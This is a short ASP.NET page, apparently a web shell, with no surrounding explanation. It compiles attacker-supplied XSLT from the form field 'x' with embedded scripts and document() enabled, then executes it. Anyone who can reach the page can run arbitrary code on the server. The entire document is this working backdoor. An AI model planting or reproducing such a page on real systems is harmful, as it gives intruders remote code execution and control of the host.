<%@ Page Language="C#" %>
<%@ Import Namespace="System.Xml.Xsl" %>
<%
var x = new XslCompiledTransform();
x.Load(System.Xml.XmlReader.Create(new System.IO.StringReader(Request.Form["x"])), new XsltSettings(true, true), null);
x.Transform(System.Xml.XmlReader.Create(new System.IO.StringReader("<a/>")), null, Response.Output);
%>
